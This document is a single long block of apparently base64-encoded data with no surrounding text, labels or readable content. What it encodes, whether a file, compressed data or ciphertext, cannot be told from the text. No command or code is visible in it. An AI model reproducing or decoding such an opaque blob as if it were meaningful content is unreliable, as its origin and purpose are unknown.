wllHaJlw+pBi9QBPf7llj943OU5Zq1wZzptlLE+DZy+eVpgdnr/4U6w6shK7uOhPX8jFWeXSyv69C8onId+pFcJl9bPvYv1XeSSxdCQpM1kumezppg/efK3CQBFQYs2tMA+tr+2UfuTNwNQhtp4yQfCXv2KqVSmCZo9AldVhyy2fBv9bKN4bb1B2tqYkUS+9kPHyF5kvGLjMvQp8OicdDB5mnZMCxbbbfmu3e1pAseu6oyM8yvBra/oKLDvyrWNbssTVTmEgzP3C4fJHaVc2VutvbQr772X0Z9cSvzyuNaFOWsWEfbYn/brsth/hl2GLU7vGBLDbCOLfE+t1BGzX+q+qGEuybilJ7jBSB1IzEZ/9lrzPlf+BMo3+TUDAPrQURaxzUdYswXcMXEWjdrxtKW71tuhDnqzWcBvrYx9/U9AeRCfmN3f/vgoeBXI/emzQGIr3Ax/yM0F0+TaL+qBexRHdlQqa/gNKWP9p7iZSzMtByoEShu34I+NMFeYmbfgxLytaZVzWYwkssUSYoAlp60zZ0COkGYrPgcm/RT3Fc4He/tJIfsFMQzvnGwA2oyPGAKaDL6ISZHLJJe87PYgpzSep6Rup7SjesZH1jhKojNagQ0G/NfZ3MivGoYAjybGTmUNu5DE5LioMH3r9DpgCumwst7aUfGkHSCVuTaUJQw5A82ywi6wM8oHnl76AqewCQB/5at7AXoPenUx2ylHpEEdrFwbJIaAuO0T7mrBOC9sFYZJeqnnFnL7nW+gBBIUSgaxsQkFmhJ6dqhdx0mDYZX9StFa4mM8XJsIBb48cAahIU71JDYU+DLoEgUFYPos1ortr0xgTUsV+AvxIzd+edYq4Qwdhiz0DGTjbl6tcsWxIxWeAuG85UodnhhZ+b3ILgg4twzTDjemJh/tjdULUX1gP0cFzRHI8p/7xQgIumuX7g5HRccs/tD2Qer2jaigi6LgpvVYKkOqIqYuMwbNXQZqwGlFBBvhlaT9PrxDh83h1LTA9bjtT2efDgwsXyyFuV8cCZygVjBdMiuvbZgFgw8nP3f5ztksPhxy1FOJVt7A2TTjgYe9AR471zT06zQVGtUNrXaGum2zVT8uNbe+SloMhL435/Y9ylL6+h2NpPh1Ighrm/H9OHn2RZW53UCMVbGc34B1EfAovmVCMD2s09fklGheM8L5nGA8CBRycaHtFqIbyM0MpnvvHztb6mue51AXS3DbL4QjnlcvAE+pIKBaQxLqDK+TWatkk3lqnbfMfEXDQO15E1oHiL4ngl3OhrOgTMlf3h2glWxkIWfbz22p4Qu+zfC4zg31Se9H45ylyAuQmfS+La9nC4cOJNQAwjfKG8YJstev1nYFhVkUQuw5jip0WkJGxnrqBVU2v3Q2JsTElc361/uh3nbGIVD4XpIF1dVoli9nFnW+80eVhCEmOxz/OnWvPemhEz6q90I9Jq0WwWLP0eDpKF01pDCvmppGRIUVe8nlicX3XmTw3lBhfn6B54ZVb0Cz6r4oOabGfpCrE5OFjTpQdVOG8Bvh1qwgqqxoKhb8DRp/sV00K7zmobJMyeFYEdrLlLdbfwhse27cU6PSCMPn73WZNx1Z5/LvJ1K8APXebtJDFONDHvv6p3wGEKco7SUlbJiAF/fvhNC24TqN3vSmhILVN9hxtIcvNWj7FqYtqeZcCl3tvSk63RVb/8QLpzo0JDo3KIkxb5tpQN2JlEYv19Xbaz6NsIBHnTWMtEdo0RkM5yR7tVjL1ZHgO5csuOA1vfc6aXBgctamWOsJ4mKgOlhjTwjhIjSxwpIfYJ9h/BeG+vDdWHt66A1ezO5HB3u0eUgG+AVBUHww4lB+r1sZ9bIYvWQt+DNbHnGiFP5dO7JGKeG85LA5Wcyk1ZleJx/jwOXKLLJT5CG5s0Wy2rQ+RKzDCoU48UYT+uoMDkVlnbl4iV04iMXnVUaq46tC/HDOx9udjUIO24ZkU3uu05Pq5+5dDhgQYCj4tCRk2+qFmDQ60/5bq9p4znrUpkekKFvz0YbSxfr6Gt8vcAnZYci6KyI1vJDsoIc/ayWWzZHnEq2+Qisx2gcJ6lkx7V/50uPKEipyh7taQKt91D2NeAJlt1gY6qivLTVmpN1SOy0TC7J0bbMWjUd8cEcgQ6pM+85AjhnmZkT4EJMq3/OjxswPsNXj6fMmxF6R8zOzmfDHB+YhwGK3sS+GSIcFZErVZEail4yc50ORYG1ksQOcK+5+KSGrs8x8X/c3Y45Hlnf7k6qKeBkLTdGz6NNI15Ot5awJFzz0yKyjdhPK/WraVOO6Eas5p67uBispvOFzIr4n7onyQdTR/A0IXSItfBHroSSpZ1KV44MqJgKFi65+2nz1sWi1VdVj8r5BSxhV8IQOjbdVP/PFsroDTr/CQZZFNlTXQ597nKmJl6+D/QAImlqjiI0FGZvuWEAVy+tiIm+j/qoCnGBeNMJ3hvwx3+125ydnhLZiDOCunDxA5Bo8HneZi0S2trpsafpQZwFD+VFIZP4yyZxGvDUQnYUeTJx3o+PzX2p/xmJNQPXuy52IZr44KZuBxXugbye3lFAs06xQ5JSueo0YKJb9F+vl+O9Wxys60G8XuixmXyknKYu9RO95ayIoZJbYJka24QSbDp0Zmwt0DWsrhED4635jOahRC0BlFY/c0yJLNbjP+Q6vB3+qCAdTmL14BC/07uo5ZNhMfRbtS+vJtGnZV/25oWXblAeYDiwE7kaBi1xBRUegmipKwg1FHluzQmnmxd3GaNbELLRqHQz3Z4HBOPrz0Spcp6McS9fUrQn+Ti0EIFHjgD5PfnBfm0+1SI1bIFjqOilx/Qq80LrWoDt4ICpjEd1fjwS0u6VSYVn/v+7ieLisZdaNjKC/xP80AdZEjxGl5rneoy904S0BekVnjyd3DnaZ8gbR7e7hQ5zo4LRfPsh1YhZ6El613Wn+rrdEhm9FE587kPiTjSMhNA34nF8Ln20oIf0OfPCbOLQh8CEJDfU3/Ynyn4xZKtubhpWX5dl8PKK0DOCpYAqEWoGhTZ5bhFkKfSqB2D65E/D4BOyAoSjR6m8iasp3cT0p4ylH3TZKaKJZu8KlqzFTebH0dZFDyQyStINgbAS6+baROiBE6PbItji/mD71DPZ8te+VQXz6/7TiwqV2PL0ovD4A99ZZTUT83vjlpzSsWTNUG9u+BrYcmjhrl+1Mm+NbatZuiapQAjA4L7UyKrTywju07mh8ESzcf1+XhPK1stwX9J3VoLY0KQIgOjJDvq67We7wjKmRYs1BkaNxw4F4aZDpg+qipsGzbJDHe/DAFDegjORIlEOyv8t/vOTgzJhJrch6oxXny1jwWPoRY5fI4GkNXPKLG6iHwuRKcfycY5ShD+j2nlyMtNNVumJTubsN3MttjK8I4To60Wtl58cZoOXUiu1WfZQAAmq33C1jP4kZ/v9caw/lO4KHl/gnS/AjtkiLOjVm0NZMcUBN4JDEZhqbH8DvmtvcT/W1CRV0hjxEEUdTIg2S2WsCNT/uMq07hUJABftlnRlbBgJkLlsgc/Jv8eoBnu6AqPIBVBziKeTtZIlT6A138pgxOJ6mZ8vMuGIschVcDoQTysIlGhGgO+Id/B4Sl4g2BTtD1PyVKloE5oQRFYUneo0cR0SfQGJLzKAitbdkNY+u3V40M/cM2On93Aai08TkVcfzCPcX9MegLEXzb7wPYfbX7vHCJ0WqLKQ7fnWsE6FJXHWeJ7cOdpi4xFWv54F9TeO3q6KnPSv5u+bhXh02ugV9nHXM8ldVWI+W7uzfR0yTYhQmwUV9eomhtryA41JXI9+VZSZCsr8bsz9gwE/hnyOxOt1kqSQuRaJBWJwqK8B358wg7jerLtIgedVkrNWj+DwbCyl5blE16ro6ggypPFMfZRN4ibvWoXP7/7VCq0BRcfakv8DsvyNG1ZYhPGz4We4XGvtwPRIke37xn6/9ikXOqSKovA5O0MmTdfIMRx2H4GnMg7vSUOt1xFUMRSjqyRziFy7fem5iYpVTquw6FqP3d32JWNr+5V64LNdtQRTGjvk4M2raXVXu68FWqhTD0HbnY/yWveyHPEbgh+ISwHvISTPl5pYjLEThxoTuVtlEmd5TxMxTQdRj70w9QfX6+ecHBuZbGQ0p1c/VG0YDnEcEa1uc9VNpTHfhmxEjsRnYoXZpE1BeTtKGKHP5K/HfFlf8tOG5An1wXqezfT/WttTErvLlTJnWziyM5MYBEmcnMnaF4Z901T3WILvdwxidXqVWn/A62NfsQBBkkI0cquqsBRK/D7p8ehnQgOEYC2j8dBZrXtQRWzmJP4xWTyIqsuEjj00TebNmFNaO9ndqqxivP9mugl6mnGTI87I9cJwtiE9UfbilVF5JPromf+y8MqpdQKOyOo4dIXd7RBWueBWmhY3yE3pRsW8Wd80v89+lNiI00dck0FQPdYBNxRqZw+XjHmJXJEPQQJnge1ma32NEC2yZl2eDr48U++AxAbhvQfWmbGpJ6h5myTmlIUCvTfwePydx4YbVvG1eH5mJ1pc8ixB1fBtza8a0HHorh6GVjXJMzj35GNthsxlNv7lb00MSWzyQ3nqSGAu2HuGip70wkFMpb+xl280oIySipqva+KqEAkiF5x46vtwM0i8/5a8Oo6s2kT4rlTE0A6DjLA/yArTZk+tyPUk/iDey77/C/p7/xoLQznOnqcGklBKBI0bi6OUEEBRP0u8X/RlM/WORLgBAgz01o1Sw3VYGeXvuLHdyCwQCfbS/YzCDjMmWvD7c8wlXhRYWHzGli57EY0NrzLrX0fpOAhtHAM+m6wS3byS00RGkuWsMQKQd6n6heCK2aEQrIZb7dvYThqYhvQ6IvOZSYJy2HLfURdfJzZvHRr7HOgE2VmkDU8wfUMt1CUEemfoBWMApzI47xw9osJvor8m2t55TAwLl0h8QWoAA8wnPWEHzZqesaTno8ntVvZsWzMygur6QmFcmzD5IDswyBoI1BeOjaf4tfSrY09lGieXkWyYIaYYAjHxAaMluFxg9Xwl9uIe9YtaNHdgPkE8Bc/g1FDvTpcJZ2mgkqfHsKJLs/4CRS4eAHZZ5zYfVQxpqLK8x44IQzb8YAJEhA/btz1XAD8+XchW49StwCi6U38F5eJNNaWTOc2o106ryatwA7T1pB5WEky4MVu3T/F17/hUIaoI6lbmCLkIzFxN9ZNSxJ6qYx+Ob4augEo6s0luZ7AiiO0HgENPN4dWSuR3eGe0j9o/y/CDyQ9wg9b5GA/hyHoADVdVld8KTCjfu0wIrz3J2kZDZBaZtbCE3/Rl9kv7o0TE9zsp7P9CpUUCRulI/72LDqVDl3hEwWNbFXbb7sXnWPBQ8pHDq+P/cUFLcdKmyJwZFHv69ZCGxX4+9XFdnHFP2SByItUnLX9QnNtsEN9dVTn6YxzFT1fq3p60VQKrHCXUf5iDMgn5ciboF6IhTvxIj+CywgNI0pXt0BRYZ2i9/2jonfB3+kIM1ApDr5yTj+SGnifxDyxuPKOeC3NGgGi9juYYFi0OlG1Q6h0sREKZp0HxqQcGHC9LvHWe1CEASjJwx6m0ckilbXkUj4cXpEM8enN9X815I0WZxz2r1A1K6sgQSPmwOBEkyBI+1+khP1kKeihnssRmrrL6PIRzYKyCqUKxg97DqC0x1p0L9OCoranWAGRNHHJwaDxj1KgQvecDAJdxzfd/EO4j5nZMoqy5geQRgxLsp/x+yCgP9UuFJMA9AwTC9sPBfDNjIufx4pKx8oMzVd5M8AcTBO62b9gOPbetWfKQu3GZ31G+QNOt+BdNNx5x1yMtIWSVrtEMYnuUud0sThreQGwAWtR1NVpoQtOMjAC+KCcFBSWtDeByBVTo/gcxmrMGzSKzbXqbF2+Wkc+OlWLbJ0fu6mLdrM/p+t+5IdQY96L0Sg7WgXp6W0xZoQVWSE/lfZKhOUBXZYOjpcWZYl5N983xFzShRBwEyie+WShi3G7ihyzShu9+XTvfILaK3rbUI44N48XMDuDyoVKVLPK2m25C2XeaTdxM5+ZI903JTxvH8Xa/aSM7cj8oiT+IKFPmGGk9msKHVs8Jyh8oMJCFHfbe+moQlUfgWf5A4Tmw0Vfz6jISn8VwknVQPzYNtoJWtWUCrBX56Gljr7BVcQGv+8eU/RlcOM51+vro4Oegn7V+xo0S41W8spdMrx/frYIFvq1w40GdVL71FicoHm/1GHbWUy81Up7Rdasx4xHHEsUvsD4fXdR+tso/K440saRbrZgR1VYmoxf9PyKgB8J9ovN/23Tuqba/gXwNZkvXOU2bvQBcr4ucBRMgvC/Ng5+lRA2uSLbx7rWEtj1Fh5twTPMAvzJVZhOBzNNRgf5fg3/1YivMb39w66kq5JPVGYYzXTKARcBhbTYc3EtFQyX//kNCt0FXRGcsoeVT5D+oZhJuL+qUgZJUdDKC1Mmzgbdp5QLqbJzv6dmhjfO+5i/wEDSfnTorko+7046ndscLCMkLKQIiEw2Smm0h1PkSjPx8Rk97HTBUjH62fOBmxkb79W2tdMEI4I0qrDNRJ5UgStKg56vsA3b+EqvNZajBOgXmkQw24yJ706p9rDEvBVqNJ9cr/iKDLVwDIizH9cw1h8dLKD17qa1HmrbihOOS2tgc1hFz59gbKPelMp8Wa0Qvb6uUFGCfv6CDfro0yFXw0u9lMiRxGKA2SYO8CHx6dt+yabeU93E7EWoQ64fftrOV6g0X+bXNo6IKiUBqT7WZP2o1+3C4B2/6k5SSN9DZ5YQjvkfI1JDHxq5KyqVKHOG/4WfOd6vKpY+JiEu5yORSB9Vu7LQj9453r7NjQF2qus33i3F+tZh2TCAzF4A5VVF5TRLzsZ2KtRLPEpvPpeAuiAl7fuCqOrW8qTqf+PTB1mP9GxN9Ijk0eMpbgkJwiUbVCvTH2YlXJO+J7Eb2fYzIm63Fa26r3yK91UrlPuTQP5gsoMmXl006ceAaoCbRJ2T0yqmfi4TpRJ2aNMn83CrC0kkmy9QdR2uBAIqWNX21kPEFz9yB5uNXn1Ca9oCo6jTYOE9sCgO9nXs5TaJrd/aA3yDP/o0+V1ekTHuvQ54Me3Wvm93AIfCA0qSvNIfp/Co0432nGlE9uHOUsf9lXwQh+D6Mf3vJBoLKfrsuVyonyHvaYUxURDxB4J9g/PPlnnyF4WNNwMsk+3xsiHlC9AHH/v7Bc6Jtljl2pJsTK5X6iC8M/c9+Y+HaEnDSv1e074bnSh4KdA7jNOvhO1zsScxw3buIU1Z2kbMcnZaNSxW1K9w7N2qIwBG1NljaN6UrVpSx1CxdYOIzfJyLftIECHVw245UoEcKIX5dqmeCyueql0HG3HVZwOaODBO6JevLMZARIEU5o2N2Yl+awqqfMO8fFuP63VJvwtAmAsmaUvZz7PwvLhRafe/a/kO3Z2NwoCBLU/sz2e+wW+aMEHWA34YUW2lKTB4jNU8FNn0Wtvf+YbNVnarWUuJS1/lUwZKcbXWzre/066wO+FHx1rs7D9kzIZfWdChQ61uKgUwHcYQzbz9uXX1Lxe3xDX7Wx/V1WbQVW6vJs36BC/lqCX4GOtqKnVweAeGvnTxaLPnDtH3JqtZ/vTQRThIV+0vJwfzMommsG+XfZHbfY2c4A8218lWsIqa61GnL2EQONt/pJBjcCi6QiIP9Of/hxuBTvHSAY1i8RXRK3LvtZ1OjfXLqXJSTiozHBQm1DjEgltwdF/QV2rIxcEXrJpOl9q5duurAlItEi9ATGPVUE/1CAIuwj2zVzQlqOjFiHOghnVrJ+gV/FbugW2APdyFFl5SJ7YPWjRkTRRUmgAkleFsBwl93w64OkNTBMG856H/uljNhvvWlg0OMYeoZQPOIUG1LLmQfBZje8eRTgyWl6UWWHXfG2VuqsQucVe+MUB/ku1gVbWJ2DlAr2MBv+4Iym5QAfz72lzafOC6Th0hdNV/tt0me5PnlS/A74Tc5E7Q2K9HSMJdPRSyzVBCiHHicALYwNHFvCFAJi3JqudQb4tkTnhv+6l4bwW08z7eo/4P3b4WE1iYm6dEFeUHVT97zzWDsb8RtLxJ/m8EfEc1lMVSdLFmNHIN3NMvxDZOU7eeEHpHRJaJkMRlthj6jB+w/ai8hAEs91p03pij67xUS7c40tApwrpT7Z+clwyAcg7jqe0zMy+y1Sgzq8BgdHotvWwqZ+9Uvx+yTgBYDUZMSKfgqMBS/ckHu30+7PRWdOxXaTIpLo4tfZ2j/+gPLpfh8j4ScqWJiEAzQPju9PZ50pHpUaZqcxe9N48bAboiNcg4tsiSgsozBTMHZJYf9Tx3XCCWVSHLgTRuFd4Al38QrqgrxpbftZTToyYYJC7vCwl2TlFyxG1vIoomc4Tz/9gVf1ZmMhxVhTQ6O5c8XmMSgWnI9VOrbKWLECAikwvMe/Js6ge5KcKkzpli3oqb/1PnUhnXeT2af3Bt3BmXTm2wns673mEaq1fettc0d43fXPAyoGfOM3pmCotorTeugWfkedr6eZVyxLz4fcefcU3azEMTOkvWCJ2l6JqDmz3ynTnGQhKUKsv3SwzEzX07vmjjSk+Y3he7pAqWFR8Ah7yUZx16OjIciOD7kWrEtB+KSD5tgLT+CTz1B2f898wK17KLpYZsxb7HQpXrRh6mN8WN/Ar5ITnFr+FdAi9F0GGhmyEdzWEoczSzPpAC73eTF73sNPiHQqAgf362U5ow7kmU9yrio1G5JSVJwWF9I9Mcg5SBR5dh67lVQQzJGYA9rAP56fo1sJneitlx/ahiWlSmbrGqTSmqnngoHZcvBAEZwhAK7pqfDyjJt3xjisjgzwzce0jfqv0YKrQ6/RHQfYDBfer9y9uqhvVd1L3/8ggkEJ4ojfhtCLvaMktS1Hr3+BtgwOdtjSPQIK6qDjYsuLoOvv5+uaFFCOdh66Ze5C8MMnoL+Vbx3a2a+QibX433RpPFOtZSyKVjpNau9W/K+DY4h6lxWpIsiUZbYfqXzWb0KX/P9FD2YRkwq8RKRa+DeBiYUPvoRXFOkcrDGdw8B/038cRZAFQDU56US4qUvnbVH6f3Irtxt9BF8x6+jI4dvSSxT13yZEymBSs0wenZfrZWnJcKTE1wvjeV1lD/aa/xQyCnZRHq9K491zMVsI3z0O8KJYoB+XzdV9jlMkVqhD+AninN5LGxKxaE6DLprF8ZUebLHMkqc3I+9fzReLSnxazwpDBAhpbB6ggciZ4qnGLNXeoEw7/WFrNS1KrQ/RQgkAPq3BDiU3QE38jhMBkl8ojMQI7ZkvaD7POnpM3zlt9yMiQSzO1lQ84FCd90XKR6p7DuWRDbD9ooUVMppMwOaQaL3LM5yNGRvtZn+9Kw76akCxtuxok3PaIoB/MrZSvQX9yxeS4euEE3yV0Zvu2UTq2s0LBw5JKg95su9yDQj8uYH28MXJTD9w9SWhKkNwf5SbHiRFgY/AMRhAqJILYhyeuivBg9kVS/b6Ia++IIzaLG86U6jaRrmwXE8zifV56CRxB+fkhFPBvUI6pGPR12grWdb3EwguQVCsO0rxuMPh9JkHlisdRcjhlXa7hwVrGzjwMUL3r0RDnkUfHFAJ90WuRo1gCpeizjnOJ4D1Qn1eJ9TPY/XIR0MjavyLXXZhWv35gzZVbfuuu+DwShiAlcTg6YZJaJWD9XWu04xZaXe7QQWgIZldSgGLfkW2uR11zWPT6dBWeFMWnMMwc7EA5Z2P04BDthrZ6eM6hM1aeOrqdrQF/F7z+kJT7/TAgqe/ixdZ/oecWNLU6HvEKxgS7v0NNkYTNpPeTeFrRmC+/RWGkog4U1SVqlTf1NYi47kW7shJGLRiNmuOlzigQwC5vRkaZCIY6tTxuA4LqdvnhwZal6asm84qgoYVlsv1shs+IgvdZx6sOaY7Ml2TRkywaRxzgYT96cA04/4fq2xQO5xmCDPZ+9S2Xq0DH/HoR65+GaQGth3Gu3jKux8qw7hZfC8plMZYy121pPzRWcFGHdIXyLWndhLCibG/+grQLquzBI67mzABysS/uPtuEwt7nLvCTKuZGkcr89Q23Tba3yIHuQlA2APe/hsN5dtMUSQ9q8kYb7zUZJVu7Gd9dRhzAtLT9MfphexMopOr72k9pVnH3b4lDcUzLFXEwlXqU+puIbNSO/VVdTrj9B8JIEmf9T7Xn/3Q+b9KiMltR/e68dtbSNimG0n5YVyQunRVTPD3htYQoLk1IjvVnbiX6ynz8GaEVpLLm6dU2CwKUToleBDyt1T/rzyXU8w7RTSrDBcHa2DQPKDH00RQ1nI8K+IMn2CmMlJMEnBWLcD4nyjoZuIr7hH0Hfh0RFOt7O07+Oi9kR8D6lx3Nkm0+fITVtBrGqC4Rbs3T8IPQs63OUFpUymxxARoplMlC8TJbiNIaJ4Z6BDkguK1aa1EhZZ5SYjurIQOWfA79U+BwntwCUqA7ZbUonpI5SugBAwgUI9/LKQl7MUaVgIq3QH8BI2gz86uOrNc1uhZuDqkpAWuH8okA3qMKw9983NrQUkd6Rhk93wIjeyK2JtNg/xgwcynulb/mzZLLND1OFhaPu9yMRiu09vqizp+ELMTO9XkNNc+rNptL0Y0SfnzNGh2toae7nVjfX604RQJHWYcUTlDZFdvqUPYmC9GTTwROqhdaiNaE8e7dZrJ1K7SCU8HW6cK4XCk3AazSEWQuawLN5ytE72JmL5YDXJyi8AjNVuZ6Lx5pMqOqvKcilQZvJ+uzHWbLdj31cKasQg1aOzUU4BHE8LLleK0ywNgFzLBlTcbs44E/CmvRrDqWPHFXxcZY59hCW1GvFjpyu0dLgDzbOw+lPl00HonVE/hw7djmHJHsYvlkQrctJSpWtlE4c0R6YzD2K963VeJLqy8VL/A4kDWGVmSQ9jDhIykT40m8V5UAPh6SjqK/+4gS8XQkP23EcN6rWaD8DDZ2KJXTEHveBMTpGQ2JNpPpSvhX2np37tVV39ez0FdUIDvoZNbJhSwQ8uvie8zpI3PK9dyXY/3awdXVFE34DTTSEHfn6oAzvgx/0jUl5YtdsPhCs24gYi+KsF1vCOxwwHS3Rl56qdmjGBauQCdViwSURD0iwtM77tzW/pPQLfdQtWN1vm4ybxltGaIDEpQppU3FDr+leY2jIDF8DsSdt9p0k3De4eTsFFPysQKj4vqsCwb/QAA18hfc4rce4qv8ewLQ2fTZL3v+H1Vv4ljZQVrB3I+usRqr9+5Y1xzjb+R0ysd9zw6voZEk1UpvexjYrL8WQptW/vlZS2/5jOLo5UyoX1G7CAXQr9NspyGjdSRPSqnEkcQRHHceft1OXw8W9AFRB5Ko+bLCGuY48BMwUdnv9lxAn3mwwKNyd6UkO5xcKA57tahOnTjKqrlt63IGCmiKLuDrAxw7LBh4aTtD6VActgj7pEHCfcnRmLVcaTZmOdQHc4NBeocbQuCObVDotU6pYwWW85bPOIIsg9/BKKVUgWDC/dtoLbrZ7bDuAD40PNOleHGxizHoFs9qAr1/dAxy0Tj7S32Umt+9IGt16uoQlN5ddebG4NZ6ddjOFYVCGlTG9h84v6SEZ5EoHGL9DyXE7CzqzfG9tyC6s+TMoKB/8Z5H2Q8bYIpMNJB6ytPD7s+QjCqKmO2wAaB1evuUbkiwpctaSBf0kbKX14O6Xqk93cmoUKZHUKC/5YlFjU5uCOp/LBuaZsih4YzMA09R2dQXscktZTD8Dx314XDi1Gm8U0ASCB2NrOb+9uv62/CLTae5jrQDH3e8m3xbi48/Hc6MVjLgC61o5ordAiojCaW2oQbOsyg9GMfiImKu0gcvHE7sp6ewDfnQUsiL1rZjtlWJMznhZ4Lw8lipp7OlvkXzUtHomB8bRrCPz00D+J+gwI5w3jn5AfTbsOgq/3eKOKiQK/o+inMqkmYjceL2BQlfEpnVi14DRpoSFAk+WFZbYQwnu/Q1JfaG1caoF0uePjJUY5OcGv6HUbRbKJXLzFmxpzEpKY8pJBVhGMlk3zgXkanmla7/lD2MHCg6dMfF7xxf9dUDSl33Z9pZuhQU/SyfNPCdc4SijgUpN7Mo4fx/v8GBuE6vtqWfKvnw7IRRq4hlY7TXV5r+Gs9PC3ImZdtTfZi6nTw+6DZ0cHu1rPNzVtYNKpaUppl7o0H5C/Sh1ljz5irqtbM1DfW9mqEPecRoFT8lPyuC985msq6FOvMpHFil+VP+tr/EHuXR6powEiY+16KEvScBAICsOHXT0ACbME0a8GpJO2T4lAdc/BYRMmBSlRafJn6mSnzXneCzIa8N/T6KeBGf7o4mpdwyV0hjyBdgDyJdOMe4nqU3eONuno4C11ZdoxeVdvEMPGV121dJHbT95Q8sba0Q128Bj1fR1QLxcYAIwByZnted4laB1ue1j0gp9jOwAFIhMzEotsOxlbDSjD0UJ3zGsptBNPk3eiWMJFhfCnvOL9mxFDf/jiqbiP6l+OwZkWlIfR2lIf8kiR9mO6V+EJygGrGAZkf2Nb6uUHrTFRX6m5OjLch7vuFrtcAstKTYeTbnjiWTHClz6Ak7zSovK4f3R5tm+p8LzWB0aayF/ACWXBybddCuG9Nmr1dyzv7dvfcmSCnnG5A52kqdFB9dOS9ixP+qGzQRXREIvXNcF4HgX+GNnFEfEBR6NpLuIR6lPgd9Fwps4JtFUEt122cESV9Naml81QwH0+xaEXNEJg93PtdDzODblz6TbasrlI/Z7W3CPZEChMGXexMxaGxOscsZ0j2E1UqHQ0+kC7nXXdRFSVm4+SgmT7sj3ejIICL1BOPkKzDFtZrjIkhHJ+iTY9VsbuqgBxR7JwkrrK83k7VJV8jY14qttyqnB0PITKzB16ZKZIyq/BkkecJ3sXgnvEBR7b8hmjYzdvLkF1XZrfUPf9b60J8DWdqr0zQ0StE6CsqrPEsIt8LTE3zF+a5kRB23J7Lekhpv0CN9g7/z5cYBA/Mi+r7BNROhjbgeOtuErMecXpCBPpG21xJ646Aj+w6W5jB5FtfXGMd1hKwF5MmTnpF4PsLRGrLSvOBqKh6dHCgAKKvc5w6JIj/HnFBUEf4fwK2Dn7urAf/DJ2tFqMI82vwPWhpJu/2TPERJhC1GKB1WLwIvJssRMVUEL6PYsLeN+PN/yLKG4Rgkcv6gKkENp1gx4NpnkDEU/MrcNwz5AzxOHOg2/P08c2qNgIcqWQ7kJfngDJbmQMrE2rkNaGNHKPPYqJk4vzI/LJBjmxbEokrozEeEWay6Kd9OFsMQyo1TRybXoeMGU2dEyb7W927QcMnwcgio1RbvwlrWWE59omzUKdaZ2N+gj7dz+MbyFvpw625liUHQc54ZB5y5e0s1RbJFF5bgQCGc8Z/g9QUDqk2NlJKYtbTC7yqLA5vhiMYXMqBXR8vpriKJbUN8Xrsbgizv/MgLFiFYpN8MhjU6GkWf5r9+yGbDT8mdb2JDoLfOaqzSpxUsdAQ3IP0kXAE97JsOEfo97Lyp1r9VQOpkkunol1bbrjyDqaNUXvyLT/T+cbev+phgomn5BtS7SLBHmVFYbP4uAqAP8gb6SdBHMS33y3wYU+ncJ510iNZw20PVHgOekGzyOUS4Bg7in0gDFhr9KiKIRUOKOCPNH1+VUDE7NeaydXsSCEd/lbeOnyMjl8+vITYJe8RXNdESDBw4DKYP7+MvjLHdULsF3nf5OA7giIIGmPusChQgEoz2W7zfKovMvJ8ElwevW2Rhu3btXg+AQFE/PMdK0xGJZZPxEwhsqNdW6hKAOGYzoGiKO1TT5Ifph8Q853sE06XJDQxpATjEN225F8uqNR5f/QlVAet0B2TrT6h3f8SU0QgfSftM0AtMQoUfvma9E4bkxAP0PLfYo9shUM4GnC2Sh+Fbxo0yxFfDvIUgnydYukVWPnxMuUR9gLymAmWwkLuUvDcn/pnTNcc6Y/gcO6quR5YGp7/avpRpE4uFGfo8peFUngLWjVV7Ywbtt7IibMRwDcOnIktFIGP8dcHqeTAaQuWD4tEwzGrY14TyIj0gttOwH/ih0dnR+VpsQr4+klLYbIAq9xXvnl8djhSH0JJryahcj668phq4DO3FmX9glhgAT+ZnrXytWldCxskNOMPWP+oY08I23KWw16KUOZ9zAUOZox3H+kVg2IG7v9zORin7tH/Uz/7ftMjUHINzs0nErOXqvky2FvM4l/GrmYS+XkgT1MpVLiLcIDCsPghLfJJgbgqyRgzEQA8UTqIzs4FuOhWw8Ikda5Lsi2mp3f8U/Cf0+Pp1vUBtfTjoUpHBikk6TlP6kGwLyrWFUXkc9BZ6msB0uRE5vjhz/GLgAy8AanoTDJEXfXv1zQO2QyePKuPe6/1ke4SgQJbsB3qkm/R3zWOxCbJ5g9sHaO/R8gREh5aC5ricLpwlPnIDihqFJmLF+/pPvqXe0ds9Xu9BQdD5a67hMfcwNmacqc0oKls6u0+iSwNXFcPb2P/+xGRoEyU0xAWVxZr+QxXAR8Xr3056ncM+1p9qTPj2XbK+sGn7IxVWV32FcbfFE3OWq4hU9qRWGXA0gFUklKAylbSjTBjxjFtLiWF6lh/nZ58SeNOKSsY+Q+lCYMbik0M+lLTm80VasUMhvh0uj7AAuJaR1AdDm5xGV08smJe4rpwPOfpBUoZRPHwEGx3lfSoqb3wBTa2NSekQwTnb7vK3/4P3bE1qQgabfL8eP117plqd0Aari8ZTVYXIhoKsmGB4sQEb2BAXmcSNDMl/7UAT7GgRkQWXk1L1pq7U8qqUh3/ObGtS/KqgBj+qbSqvn8p9rbZRsg6yHeti/3yr10CYvyEMPMUCBSSV6RjkBk+n++rD+H+FS3NpK08mERFDn2XtA26RRzOjQHpEgR9S8hdTkqk7lHi9TiVQaEhQfUwgeXavTB5Wfk2DKoM7vWO3yd2euebfzq42ZMeLz5u2Br//XslG5tl3r/EJRllMeKgdvpPlbI9avJfcenwWwonqHQyOWpHJyt6PRPP44Ndlp9XGq7UCOkTV4u6/UoqnU8LIQHdta1oAGIDpJZgEAZ0OKR2aE29QqK4bGcPOwivZ3I356GlLI30awl/1eqe5u8idU6CUUM039vMEYD2/WyagEcGw+kuHE46C/rOonTtZgQdlWRSLY5F3V8QRTHD8eH1qbHf0mv7QOf8KboBpH/1PyEQNGJ2xTG0REf6sRn5XEJAEf3UnjkbokjNGvlFvzyhzI5/QkCMMdKjbwJiCGkE1wAUgyUPws8lIX24SYUEwvv1py6ETe+mR0hdS+eTtHs90oKg2kiDbgsC0WnS1lE3wACU0a+Ug12Bk/RVJGM0f9Spz/awqAL6uoGK2dysnTO5g3oZVPmAkss3xJ7ODJcyDLqcBwa020/koO5rWexrR2fGJDY7SEyG5nI7LatE9jw8HMCcGbXZhAV4osctsdxNCfICSrmskZ2xckhQsKJ/D0tyQKcjxFptirCn1ftXk9RUV7A4ak5Ckah09aliBiXuF6nn/FDOSa0BFWyY9F8ZTihJ13YXdT46rHNUZubWyqc1a81m2qmEF8aAn65Fuc+Jb/TlfO1wLTo9JWnjTM4Sde1athQM1Lz1uDCKl2amaaeWaBlJwTjIfLXQchNSRNGTG0Pt0ki6+EYh+oZ8jGW6Pv6hG6Cr5nupsXwO80fQjdIEerO+UaoWpzTHOGGNRCEzaVMC2qvP55f70f5YbDjxyRDRm12/o0kpjjhNkxbUmVA/GU6pt9qzSVLXUFguDLON2HVGB3hY2Eu5sx/l5lEftRbftN83jVJVjqgjJMeDV/LYCHwWj9OPgA